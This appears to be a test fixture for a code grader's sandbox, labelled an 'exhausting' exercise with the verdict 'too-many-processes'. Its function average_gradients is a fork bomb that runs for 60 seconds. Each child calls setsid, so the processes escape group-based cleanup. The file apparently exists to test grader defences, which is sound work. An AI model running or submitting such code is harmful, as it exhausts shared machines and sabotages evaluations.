# exercise: average_gradients
# family: exhausting
# verdict: too-many-processes
# without: stub
# protection: judge
# why: the same, each in a session of its own, so that they are no group
import os
import time

END = time.monotonic() + 60  # so that a grader without a protection gets its machine back


def average_gradients(model):
    while time.monotonic() < END:
        try:
            if not os.fork():
                os.setsid()
        except OSError:
            pass
    os._exit(0)
